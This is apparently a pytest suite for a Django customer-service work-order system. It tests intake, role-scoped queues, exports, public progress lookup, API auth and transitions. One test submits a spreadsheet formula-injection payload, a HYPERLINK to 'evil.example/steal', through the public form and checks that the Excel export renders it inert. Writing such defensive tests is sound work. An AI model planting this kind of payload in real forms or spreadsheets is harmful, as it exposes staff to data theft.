"""Work orders through the pages and the API, per persona."""

from datetime import timedelta
from io import BytesIO

import pytest
import time_machine
from django.utils import timezone
from openpyxl import load_workbook
from rest_framework.test import APIClient

from kefu.api.testing import field_errors
from kefu.notify.models import OutboundMessage
from kefu.org import services as org_services
from kefu.tickets import services
from kefu.tickets.models import Ticket
from kefu.tickets.states import Action, Status

pytestmark = pytest.mark.django_db


def api(user) -> APIClient:
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {org_services.token_regenerate(user=user).key}")
    return client


def payload(catalog, **extra):
    return {
        "category": catalog.repair.code,
        "channel": "sms",
        "title": "楼道灯坏了",
        "contact_phone": "13912345678",
        **extra,
    }


# ---------------------------------------------------------------- pages


def test_intake_dispatches_and_names_the_first_responder(client_as, org, catalog):
    client = client_as(org.agent)
    response = client.post(
        "/tickets/new/",
        {
            "channel": "hotline",
            "calling_number": "13812345678",
            "contact_phone": "13812345678",
            "contact_name": "张先生",
            "category": catalog.repair.pk,
            "title": "水管爆裂",
            "submit": "dispatch",
        },
    )
    ticket = Ticket.objects.get()
    assert response.status_code == 302
    assert (ticket.status, ticket.department, ticket.first_responder) == (
        Status.DISPATCHED,
        org.repairs,
        org.agent,
    )
    page = client.get(f"/tickets/{ticket.pk}/").content.decode()
    assert "KF001" in page and "李坐席" in page


def test_intake_bad_input_names_the_field_and_saves_nothing(client_as, org, catalog):
    response = client_as(org.agent).post(
        "/tickets/new/",
        {
            "channel": "hotline",
            "category": catalog.leak.pk,
            "title": "",
            "contact_phone": "123",
            "submit": "dispatch",
        },
    )
    form = response.context["form"]
    assert response.status_code == 200
    assert "title" in form.errors
    assert Ticket.objects.count() == 0


def test_intake_required_category_field(client_as, org, catalog):
    response = client_as(org.agent).post(
        "/tickets/new/",
        {
            "channel": "hotline",
            "category": catalog.leak.pk,
            "title": "漏水",
            "contact_phone": "13812345678",
            "submit": "save",
        },
    )
    assert "extra_floor" in response.context["form"].errors
    assert Ticket.objects.count() == 0


def test_caller_panel_offers_the_open_order(client_as, org, new_ticket):
    ticket = new_ticket(dispatch=True)
    page = (
        client_as(org.agent).get("/tickets/new/caller/?calling_number=13812345678").content.decode()
    )
    assert ticket.number in page
    assert "<html" not in page


def test_queue_pages_show_only_the_scope(client_as, org, new_ticket):
    ticket = new_ticket(dispatch=True)
    assert ticket.number in client_as(org.head).get("/tickets/?queue=to_sign").content.decode()
    assert (
        ticket.number not in client_as(org.handler).get("/tickets/?queue=to_sign").content.decode()
    )
    assert ticket.number not in client_as(org.inspector).get("/tickets/?queue=all").content.decode()
    assert client_as(org.inspector).get(f"/tickets/{ticket.pk}/").status_code == 404
    assert (
        ticket.number
        in client_as(org.agent).get("/tickets/?queue=first_responder").content.decode()
    )


def test_queue_order_priority_then_grade_then_due(org, catalog, new_ticket):
    from kefu.tickets.selectors import queue

    normal_c = new_ticket(priority="normal", customer_grade="C")
    normal_a = new_ticket(priority="normal", customer_grade="A")
    urgent_none = new_ticket(priority="urgent")
    normal_a_due = new_ticket(priority="normal", customer_grade="A")
    Ticket.objects.filter(pk=normal_a_due.pk).update(due_sort=timezone.now() + timedelta(hours=1))
    order = list(queue(org.gm, "all").values_list("pk", flat=True))
    assert order == [urgent_none.pk, normal_a_due.pk, normal_a.pk, normal_c.pk]


def test_keyset_pages_cover_every_row_once(org, new_ticket):
    from kefu.tickets.selectors import keyset_page, queue

    created = {
        new_ticket(priority=p, customer_grade=g).pk
        for p in ("urgent", "normal", "low")
        for g in ("A", "B", "", "C")
    }
    seen, cursor = [], ""
    while True:
        rows, cursor = keyset_page(queue(org.gm, "all"), after=cursor, size=5)
        seen += [r.pk for r in rows]
        if not cursor:
            break
    assert len(seen) == len(set(seen)) == 12
    assert set(seen) == created


def test_queue_query_count_is_constant(client_as, org, new_ticket, django_assert_max_num_queries):
    client = client_as(org.gm)
    new_ticket()
    client.get("/tickets/?queue=all")
    with django_assert_max_num_queries(20) as captured:
        client.get("/tickets/?queue=all")
    few = len(captured.captured_queries)
    for _ in range(25):
        new_ticket(dispatch=True)
    with django_assert_max_num_queries(few):
        client.get("/tickets/?queue=all")


def test_queue_export(client_as, org, new_ticket):
    ticket = new_ticket(dispatch=True)
    response = client_as(org.head).get("/tickets/?queue=all&export=xlsx")
    rows = list(load_workbook(BytesIO(response.content)).active.iter_rows(values_only=True))
    assert rows[0][0] == "工单号"
    assert [r[0] for r in rows[1:]] == [ticket.number]


def test_actions_through_the_page(client_as, org, new_ticket):
    ticket = new_ticket(dispatch=True)
    client_as(org.head).post(
        f"/tickets/{ticket.pk}/act/", {"action": "sign", "owner": org.handler.pk}
    )
    ticket.refresh_from_db()
    assert (ticket.status, ticket.owner) == (Status.SIGNED, org.handler)
    client = client_as(org.handler)  # the handler now takes part, so sees it
    client.post(f"/tickets/{ticket.pk}/act/", {"action": "resolve", "resolution": "已修好"})
    ticket.refresh_from_db()
    assert ticket.status == Status.RESOLVED


def test_refused_action_through_the_page_is_explained(client_as, org, new_ticket):
    ticket = new_ticket(dispatch=True)
    response = client_as(org.inspector).post(f"/tickets/{ticket.pk}/act/", {"action": "sign"})
    assert response.status_code == 404  # outside the inspector's scope
    response = client_as(org.agent).post(
        f"/tickets/{ticket.pk}/act/", {"action": "sign"}, follow=True
    )
    assert "您无权" in response.content.decode()
    assert Ticket.objects.get(pk=ticket.pk).status == Status.DISPATCHED


def test_notifications_bell(client_as, org, new_ticket, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        new_ticket(dispatch=True)
    client = client_as(org.handler)
    page = client.get("/").content.decode()
    assert 'class="count">' in page or 'class="count"' in page
    listing = client.get("/notifications/").content.decode()
    assert "派单" in listing
    client.post("/notifications/read/")
    assert "count zero" in client.get("/").content.decode()


# ---------------------------------------------------------------- public pages


def test_public_progress_lookup_shows_no_internal_notes(client, org, new_ticket):
    ticket = new_ticket(dispatch=True)
    services.ticket_add_note(ticket=ticket, actor=org.agent, note="内部：客户脾气急")
    response = client.get(f"/track/?number={ticket.number}&phone_tail=5678")
    page = response.content.decode()
    assert "已派单" in page and "138****5678" in page
    assert "内部" not in page and "13812345678" not in page
    wrong = client.get(f"/track/?number={ticket.number}&phone_tail=0000").content.decode()
    assert "没有与该工单号和手机号匹配的工单" in wrong


def test_public_lookup_is_rate_limited(client, org, new_ticket):
    ticket = new_ticket()
    for _ in range(10):
        client.get(f"/track/?number={ticket.number}&phone_tail=0000")
    assert client.get(f"/track/?number={ticket.number}&phone_tail=5678").status_code == 429


def test_public_report_form(client, org, catalog):
    page = client.get("/public/report/")
    started = page.context["form"]["started"].value()
    data = {
        "category": catalog.consult.pk,
        "title": "楼上漏水",
        "description": "天花板滴水",
        "contact_name": "王女士",
        "contact_phone": "13700001111",
        "started": started,
    }
    too_fast = client.post("/public/report/", data)
    assert "请重新填写" in too_fast.content.decode()
    assert Ticket.objects.count() == 0
    with time_machine.travel(timezone.now() + timedelta(seconds=10)):
        robot = client.post("/public/report/", {**data, "website": "http://spam"})
        assert Ticket.objects.count() == 0
        assert robot.status_code == 200
        done = client.post("/public/report/", data)
    ticket = Ticket.objects.get()
    assert ticket.number in done.content.decode()
    assert (ticket.channel, ticket.first_responder) == ("web", None)


def test_public_report_needs_a_valid_phone(client, catalog):
    with time_machine.travel(timezone.now() - timedelta(seconds=30)):
        started = client.get("/public/report/").context["form"]["started"].value()
    response = client.post(
        "/public/report/",
        {
            "category": catalog.consult.pk,
            "title": "x",
            "description": "y",
            "contact_name": "王",
            "contact_phone": "12",
            "started": started,
        },
    )
    assert "contact_phone" in response.context["form"].errors
    assert Ticket.objects.count() == 0


# ---------------------------------------------------------------- API


def test_api_create_with_idempotency_key(org, catalog):
    client = api(org.agent)
    first = client.post(
        "/api/v1/tickets/", payload(catalog), format="json", HTTP_IDEMPOTENCY_KEY="abc-1"
    )
    retry = client.post(
        "/api/v1/tickets/", payload(catalog), format="json", HTTP_IDEMPOTENCY_KEY="abc-1"
    )
    assert (first.status_code, retry.status_code) == (201, 200)
    assert first.json()["number"] == retry.json()["number"]
    assert first.json()["first_responder"]["employee_no"] == "KF001"
    assert Ticket.objects.count() == 1
    other = client.post(
        "/api/v1/tickets/",
        payload(catalog, title="另一件事"),
        format="json",
        HTTP_IDEMPOTENCY_KEY="abc-1",
    )
    assert other.status_code == 400
    assert Ticket.objects.count() == 1


def test_api_ticket_body_is_the_generic_serializer_output(org, catalog, new_ticket):
    """The written-out ``TicketSerializer.to_representation`` gives exactly what the
    generic walk over ``Meta.fields`` gives, for an order with every field filled and for
    a bare one."""
    from rest_framework import serializers as drf

    from kefu.tickets.api import TicketSerializer

    bare = new_ticket(contact_name="", calling_number="")
    full = new_ticket(extra={"meter_no": "M-1"})
    now = timezone.now()
    Ticket.objects.filter(pk=full.pk).update(
        department=org.repairs,
        owner=org.handler,
        parent=bare,
        resolution="已更换水管",
        supervised=True,
        supervision_due=now.date(),
        next_due_at=now,
        next_warn_at=now,
        dispatched_at=now,
        signed_at=now,
        resolved_at=now,
        closed_at=now,
        repeat_count=2,
        urge_count=1,
        status=Status.RESOLVED,
    )
    Ticket.objects.filter(pk=bare.pk).update(first_responder=None)
    shown = {}
    for ticket in Ticket.objects.filter(pk__in=[bare.pk, full.pk]):
        serializer = TicketSerializer(ticket)
        generic = drf.ModelSerializer.to_representation(serializer, ticket)
        assert list(serializer.data.items()) == list(generic.items())
        shown[ticket.pk] = generic
    assert shown[full.pk]["parent"] == bare.number
    assert shown[full.pk]["department"] == org.repairs.code
    assert shown[full.pk]["supervision_due"] == now.date().isoformat()
    assert shown[full.pk]["extra"] == {"meter_no": "M-1"}
    assert shown[bare.pk]["first_responder"] is None


def test_api_token_authentication(org, catalog):
    """A valid token gets in with one query for the user; an unknown token and the token
    of a deactivated user are refused with 401, the message saying why."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client = api(org.agent)
    with CaptureQueriesContext(connection) as ctx:
        assert client.get("/api/v1/tickets/?queue=mine").status_code == 200
    assert "knox_authtoken" in ctx.captured_queries[0]["sql"]
    assert not any("knox_authtoken" in q["sql"] for q in ctx.captured_queries[1:])
    stranger = APIClient()
    stranger.credentials(HTTP_AUTHORIZATION="Token 0123456789abcdef0123456789abcdef01234567")
    refused = stranger.get("/api/v1/tickets/")
    assert refused.status_code == 401
    assert refused.json()["message"] in ("Invalid token.", "认证令牌无效。")
    org.agent.is_active = False
    org.agent.save(update_fields=["is_active"])
    refused = client.get("/api/v1/tickets/")
    assert refused.status_code == 401
    assert refused.json()["message"] in ("User inactive or deleted.", "用户未激活或者已删除。")


@pytest.mark.django_db(transaction=True)
def test_api_intake_reads_no_configuration_once_the_process_has_a_copy(org, catalog, monkeypatch):
    """After a first order, the next one reads neither its category, nor the SMS template,
    nor the time-limit policies, nor its Idempotency-Key: the token, then the number
    counter and the inserts between BEGIN and COMMIT."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from kefu.core.configcache import ConfigCache

    for cache in list(ConfigCache._instances):
        monkeypatch.setattr(cache, "clock", lambda: 0.0)  # no periodic check in between
    client = api(org.agent)
    assert (
        client.post(
            "/api/v1/tickets/", payload(catalog), format="json", HTTP_IDEMPOTENCY_KEY="first"
        ).status_code
        == 201
    )
    with CaptureQueriesContext(connection) as ctx:
        second = client.post(
            "/api/v1/tickets/",
            payload(catalog, title="楼梯灯也坏了"),
            format="json",
            HTTP_IDEMPOTENCY_KEY="second",
        )
    assert second.status_code == 201
    statements = [q["sql"].split()[0].upper() for q in ctx.captured_queries]
    intake = statements[: statements.index("COMMIT") + 1]  # then the SMS goes out (tests
    # run the task queue in-process)
    assert intake == [
        "SELECT",  # the token and its user
        "BEGIN",
        "UPDATE",  # the number counter
        "INSERT",  # the order
        "INSERT",  # its timeline line (this category has no time-limit policy)
        "INSERT",  # the acceptance SMS
        "INSERT",  # the idempotency key
        "COMMIT",
    ]
    assert OutboundMessage.objects.filter(ticket__number=second.json()["number"]).exists()


def test_api_bad_input_names_the_field(org, catalog):
    response = api(org.agent).post(
        "/api/v1/tickets/", payload(catalog, category="nope", channel="fax"), format="json"
    )
    assert response.status_code == 400
    assert set(field_errors(response)) >= {"category", "channel"}
    response = api(org.agent).post(
        "/api/v1/tickets/", payload(catalog, contact_phone="1"), format="json"
    )
    assert "contact_phone" in field_errors(response)
    assert Ticket.objects.count() == 0


def test_api_scope_and_transition(org, catalog):
    created = (
        api(org.agent)
        .post("/api/v1/tickets/", payload(catalog, dispatch=True), format="json")
        .json()
    )
    number = created["number"]
    assert api(org.inspector).get(f"/api/v1/tickets/{number}/").status_code == 404
    assert api(org.handler).get(f"/api/v1/tickets/{number}/").status_code == 404
    signed = (
        api(org.head).post(f"/api/v1/tickets/{number}/actions/sign/", {"owner": "handler"}).json()
    )
    assert signed["status"] == "signed"
    handler = api(org.handler)
    refused = handler.post(f"/api/v1/tickets/{number}/actions/resolve/", {})
    assert refused.status_code == 400
    assert "resolution" in field_errors(refused)
    forbidden = api(org.agent).post(
        f"/api/v1/tickets/{number}/actions/resolve/", {"resolution": "x"}
    )
    assert forbidden.status_code == 403
    assert Ticket.objects.get(number=number).status == Status.SIGNED
    timeline = handler.get(f"/api/v1/tickets/{number}/timeline/").json()
    assert [e["to_status"] for e in timeline] == ["received", "dispatched", "signed"]


def test_api_list_queue_and_anonymous(org, catalog, new_ticket):
    new_ticket(dispatch=True)
    assert APIClient().get("/api/v1/tickets/").status_code == 401
    assert len(api(org.head).get("/api/v1/tickets/?queue=to_sign").json()["results"]) == 1
    assert api(org.handler).get("/api/v1/tickets/?queue=to_sign").json()["results"] == []
    assert api(org.inspector).get("/api/v1/tickets/").json()["results"] == []


def test_api_public_progress(org, new_ticket):
    ticket = new_ticket()
    services.ticket_transition(ticket=ticket, action=Action.DISPATCH, actor=org.agent)
    body = APIClient().get(f"/api/v1/progress/?number={ticket.number}&phone_tail=5678").json()
    assert body["status"] == "dispatched"
    assert body["phone"] == "138****5678"
    assert (
        APIClient().get(f"/api/v1/progress/?number={ticket.number}&phone_tail=1111").status_code
        == 404
    )


def test_workspace_shows_the_queues(client_as, org, new_ticket):
    new_ticket(dispatch=True)
    page = client_as(org.head).get("/").content.decode()
    assert 'data-testid="card-tickets-to_sign">1<' in page
    page = client_as(org.agent).get("/").content.decode()
    assert 'data-testid="card-tickets-first_responder">1<' in page


def test_api_urge_supervise_comment_and_unknown_action(org, catalog, new_ticket):
    number = new_ticket(dispatch=True).number
    agent, head = api(org.agent), api(org.head)
    assert (
        agent.post(f"/api/v1/tickets/{number}/actions/urge/", {"note": "客户催"}).json()[
            "urge_count"
        ]
        == 1
    )
    refused = agent.post(f"/api/v1/tickets/{number}/actions/supervise/", {"due": "2030-01-01"})
    assert refused.status_code == 403
    missing = head.post(f"/api/v1/tickets/{number}/actions/supervise/", {})
    assert "due" in field_errors(missing)
    supervised = head.post(f"/api/v1/tickets/{number}/actions/supervise/", {"due": "2030-01-01"})
    assert supervised.json()["supervised"] is True
    head.post(f"/api/v1/tickets/{number}/actions/comment/", {"note": "请尽快处理"})
    assert Ticket.objects.get(number=number).events.filter(kind="note", note="请尽快处理").exists()
    unknown = head.post(f"/api/v1/tickets/{number}/actions/teleport/", {})
    assert unknown.status_code == 400
    assert "action" in field_errors(unknown)


def test_api_transfer(org, catalog, new_ticket):
    number = new_ticket(dispatch=True).number
    head = api(org.head)
    head.post(f"/api/v1/tickets/{number}/actions/sign/", {})
    moved = head.post(
        f"/api/v1/tickets/{number}/actions/transfer/",
        {"department": org.marketing.code, "reason": "属市场部"},
    ).json()
    assert (moved["status"], moved["department"]) == ("dispatched", org.marketing.code)


def test_api_categories_and_routing_rules(org, catalog):
    codes = {c["code"] for c in api(org.agent).get("/api/v1/categories/").json()["results"]}
    assert {"repair-water", "repair-leak", "consult-policy"} <= codes
    body = {"code": "new-cat", "name": "新分类", "ticket_type": "repair", "lead_department": "rep"}
    assert api(org.agent).post("/api/v1/categories/", body, format="json").status_code == 403
    created = api(org.admin).post("/api/v1/categories/", body, format="json")
    assert created.status_code == 201
    bad = api(org.admin).post(
        "/api/v1/categories/", {**body, "code": "bad", "extra_fields": "x"}, format="json"
    )
    assert bad.status_code == 400
    rule = {"order": 5, "category": "repair-water", "area": "城西", "department": "mkt"}
    assert api(org.head).post("/api/v1/routing-rules/", rule, format="json").status_code == 403
    assert api(org.admin).post("/api/v1/routing-rules/", rule, format="json").status_code == 201


def test_configuration_pages(client_as, org, catalog):
    from kefu.notify.models import MessageTemplate
    from kefu.tickets.models import TicketType

    assert client_as(org.head).get("/tickets/config/").status_code == 403
    client = client_as(org.admin)
    assert "水电报修" in client.get("/tickets/config/").content.decode()
    repair = TicketType.objects.get(code="repair")
    bad = client.post(
        f"/tickets/config/types/{repair.pk}/",
        {
            "name": "报修",
            "code": "repair",
            "number_prefix": "BX",
            "number_pattern": "{prefix}{date:%Y}",
            "sort_order": 1,
            "is_active": "on",
        },
    )
    assert "number_pattern" in bad.context["form"].errors
    assert TicketType.objects.get(pk=repair.pk).number_prefix == "GD"
    client.post(
        f"/tickets/config/types/{repair.pk}/",
        {
            "name": "报修",
            "code": "repair",
            "number_prefix": "BX",
            "number_pattern": "{prefix}{date:%Y%m%d}{serial:04d}",
            "sort_order": 1,
            "is_active": "on",
        },
    )
    from kefu.tickets import services
    from kefu.tickets.models import Category

    category = Category.objects.get(pk=catalog.repair.pk)
    ticket = services.ticket_create(
        actor=org.agent,
        category=category,
        channel="hotline",
        title="新编号",
        contact_phone="13812345678",
    )
    assert ticket.number.startswith("BX") and ticket.number.endswith("0001")
    template = MessageTemplate.objects.get(code="ticket_received")
    client.post(
        f"/tickets/config/templates/{template.pk}/",
        {"name": "受理通知", "text": "已受理{number}", "active": "on"},
    )
    assert MessageTemplate.objects.get(pk=template.pk).text == "已受理{number}"


def test_bulk_actions_report_each_refusal(client_as, org, new_ticket):
    received = new_ticket()
    dispatched = new_ticket(dispatch=True)
    response = client_as(org.agent).post(
        "/tickets/bulk/",
        {"bulk_action": "dispatch", "ids": [received.pk, dispatched.pk]},
        follow=True,
    )
    page = response.content.decode()
    received.refresh_from_db()
    assert received.status == Status.DISPATCHED
    assert dispatched.number in page  # named as refused: it was already dispatched
    client_as(org.agent).post("/tickets/bulk/", {"bulk_action": "urge", "ids": [dispatched.pk]})
    dispatched.refresh_from_db()
    assert dispatched.urge_count == 1
    outsider = new_ticket(dispatch=True)
    client_as(org.inspector).post("/tickets/bulk/", {"bulk_action": "urge", "ids": [outsider.pk]})
    outsider.refresh_from_db()
    assert outsider.urge_count == 0  # outside the inspector's scope: untouched


def test_a_formula_sent_through_the_public_form_is_inert_in_the_queue_export(
    client, client_as, org, catalog
):
    """The public form needs no login: whatever it accepts reaches staff's Excel files."""
    attack = '=HYPERLINK("http://evil.example/steal","查看详情")'
    with time_machine.travel(timezone.now() - timedelta(seconds=30)):
        started = client.get("/public/report/").context["form"]["started"].value()
    client.post(
        "/public/report/",
        {
            "category": catalog.consult.pk,
            "title": attack,
            "description": "@SUM(1+1)",
            "contact_name": "-王女士",
            "contact_phone": "13700001111",
            "started": started,
        },
    )
    ticket = Ticket.objects.get()
    response = client_as(org.gm).get("/tickets/?queue=all&export=xlsx")
    sheet = load_workbook(BytesIO(response.content)).active
    cells = {cell.value: cell for row in sheet.iter_rows(min_row=2) for cell in row}
    assert ticket.number in cells
    assert cells[attack].data_type == "s" and cells[attack].quotePrefix
    formulas = [c.value for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_public_report_shows_and_requires_the_category_fields(client, catalog):
    with time_machine.travel(timezone.now() - timedelta(seconds=30)):
        page = client.get(f"/public/report/?category={catalog.leak.pk}")
    assert "楼层" in page.content.decode()
    assert 'name="extra_floor"' in page.content.decode()
    data = {
        "category": catalog.leak.pk,
        "title": "楼上漏水",
        "description": "天花板滴水",
        "contact_name": "王女士",
        "contact_phone": "13700001111",
        "started": page.context["form"]["started"].value(),
    }
    refused = client.post("/public/report/", data)
    assert "楼层" in str(refused.context["form"].errors["extra_floor"])
    assert 'name="extra_floor"' in refused.content.decode()
    assert Ticket.objects.count() == 0
    client.post("/public/report/", {**data, "extra_floor": "12F"})
    assert Ticket.objects.get().extra == {"floor": "12F"}


def test_api_intake_names_a_missing_category_field(org, catalog):
    response = api(org.agent).post(
        "/api/v1/tickets/", payload(catalog, category=catalog.leak.code), format="json"
    )
    assert response.status_code == 400
    errors = field_errors(response)
    assert "extra_floor" in errors or "extra" in errors
    assert "楼层" in str(errors)
    assert Ticket.objects.count() == 0
